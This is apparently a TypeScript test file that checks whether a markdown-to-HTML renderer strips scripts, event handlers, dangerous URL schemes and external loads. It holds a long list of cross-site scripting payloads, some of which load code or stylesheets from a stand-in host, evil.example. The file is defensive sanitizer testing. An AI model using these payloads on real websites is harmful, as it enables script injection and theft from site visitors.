/** Whatever a text holds, its page holds nothing that runs, loads or takes over. */
import fc from 'fast-check';
import type { Element } from 'hast';
import rehypeStringify from 'rehype-stringify';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { parseMarkdown } from '../../src/markup/parse.ts';
import { renderBody } from '../../src/markup/render.ts';
import { elements, fromMarkdown, options, readHtml, wire, writtenText } from './helpers.ts';

const TAGS = new Set(
  (
    'p h2 h3 h4 h5 h6 blockquote ul ol li dl dt dd div hr pre figure figcaption aside section details summary img table caption ' +
    'thead tbody tfoot tr th td a abbr b bdi bdo br cite code del dfn em i ins kbd mark q s samp small span strong sub sup time u var wbr'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'dir lang href rel id ariaLabel ariaDescribedBy dataFootnoteRef dataFootnoteBackref className title role src alt width height ' +
    'loading decoding start reversed dataFootnotes colSpan rowSpan scope dateTime tabIndex'
  ).split(' '),
);
const CLASSES = /^(note|facts-box|facts|pull|figure|box-title|credit|footnotes|data-footnote-backref|scroll|center|end|language-.*)$/;

function faultsOf(node: Element): string[] {
  const faults: string[] = TAGS.has(node.tagName) ? [] : [`<${node.tagName}>`];
  for (const [name, value] of Object.entries(node.properties)) {
    if (!ATTRIBUTES.has(name)) faults.push(`${node.tagName}[${name}]`);
    // As a browser does before it looks for a scheme (WHATWG URL, "basic URL parser").
    const url = String(value).replace(/[\t\n\r]/g, '').replace(/^[\0- ]+/, '');
    if ((name === 'href' || name === 'src') && /^[a-z][a-z\d+.-]*:/i.test(url) && !/^(https?|mailto|tel):/i.test(url)) faults.push(url);
    if (name === 'src' && /^(https?:|\/\/)/i.test(url)) faults.push(url);
    if (name === 'id' && !/^(note-fn|footnote-label$)/.test(url)) faults.push(`id=${url}`);
    if (name === 'className') for (const one of [value].flat()) if (!CLASSES.test(String(one))) faults.push(`class=${String(one)}`);
  }
  return faults;
}

function expectSafe(html: string): void {
  expect(elements(html).flatMap(faultsOf)).toEqual([]);
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<script>alert(1)',
  '<script <b>>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=\'alert(2)\'>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img srcset="//evil.example/x 1x" src=x>',
  '<img src="https://evil.example/pixel.gif">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#10;ascript&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://paper.invalid/x">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="/" style="position:fixed;inset:0">x</a>',
  '<a href="/" ping="//evil.example" target="_top" download>x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x" onerror="alert(1)](x)',
  '[x](/ "\' onclick=alert(1) x=\'")',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="evil.swf"><embed src="evil.swf"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><input type=submit><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1) src=//evil.example/x></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)><head><title>x</title></head>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div id="location" name="cookie">x</div><a id=note-fn-x name=alert>y</a>',
  '<div class="admin" tabindex=0 contenteditable onfocus=alert(1)>x</div>',
  '<b xmlns:x="javascript:alert(1)" x:onclick="y">x</b>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "javascript:alert(1)">]>',
  '<x onclick=alert(1) is="x-y">x</x><script-x>y</script-x>',
  '<table background="javascript:alert(1)"><td background=x>x</table>',
  '<table><script>alert(1)</script><tr><td>x</td></tr></table>',
  '<p title="`onclick=alert(1)`">x</p>',
  '"><script>alert(1)</script>',
  '\' onmouseover=alert(1) x=\'',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  '`<script>alert(1)</script>`',
  '```js" onclick="alert(1)\n<script>alert(1)</script>\n```',
];

const quotable = (payload: string): string => payload.replace(/['\n]/g, ' ');

/** Where an editor, or whoever reaches the desk's text, may put it. */
const settings: [string, (payload: string) => string][] = [
  ['alone', (payload) => payload],
  ['in a sentence', (payload) => `نص ${payload} نص`],
  ['in an item', (payload) => `- نص ${payload}\n- نص`],
  ['in a quotation', (payload) => `> ${payload}`],
  ['in a cell', (payload) => `| أ |\n|---|\n| ${payload.replaceAll('\n', ' ')} |`],
  ['in bold', (payload) => `**نص ${payload} نص**`],
  ['in a block', (payload) => `:::note\n${payload}\n:::`],
  ['in attributes', (payload) => `:::note{title='${quotable(payload)}'}\nنص\n:::`],
  ['in a figure', (payload) => `:::figure{src='${quotable(payload)}' alt='${quotable(payload)}'}\n${payload}\n:::`],
  ['in a link', (payload) => `[${payload}](/x) [نص](<${payload.replace(/[<>\n]/g, ' ')}>)`],
  ['after an open tag', (payload) => `<div>\n${payload}\n\n${payload}\n</div>`],
];

const only = { media: (src: string) => (/^[\w./-]+$/.test(src) ? { src: `/${src}`, width: 1, height: 1 } : null) };

describe('HTML that attacks', () => {
  it.each(settings)('does nothing %s', (_, set) => {
    for (const payload of payloads) {
      const source = `${set(payload)}\n\nختام المقال\n`;
      const { html } = fromMarkdown(source, only);
      expectSafe(html);
      // What comes after it stays on the page too.
      expect(writtenText(html)).toContain('ختام المقال');
    }
  });

  it('does nothing in wire text, where it is only text', () => {
    for (const payload of payloads) {
      const { html } = renderBody(wire(payload), options);
      expectSafe(html);
      expect(writtenText(html)).toBe(payload);
    }
  });

  it('does nothing in any mixture', () => {
    const shard = fc.constantFrom('\n', '\n\n', '<', '>', '"', "'", '`', '</', '<b>', '<table>', '<p>', '<a href=', 'نص');
    const piece = fc.oneof(fc.constantFrom(...payloads), shard);
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 8 }), (pieces) => {
        expectSafe(renderBody(parseMarkdown(pieces.join('')).tree, { ...options, ...only }).html);
      }),
      { numRuns: 300 },
    );
  });

  it('stays harmless when a browser has read it and written it again', () => {
    const writer = unified().use(rehypeStringify).freeze();
    for (const [, set] of settings) {
      for (const payload of payloads) {
        const { html } = fromMarkdown(set(payload), only);
        const again = writer.stringify(readHtml(html));
        expectSafe(again);
        expect(writtenText(again)).toBe(writtenText(html));
      }
    }
  });

  it('is noticed by a test that can fail', () => {
    const link = '<a href=" java\tscript:x">y</a>';
    for (const bad of ['<script></script>', '<b onclick="x">y</b>', link, '<p id="location">x</p>', '<img src="//x">'])
      expect(elements(bad).flatMap(faultsOf)).not.toEqual([]);
  });
});
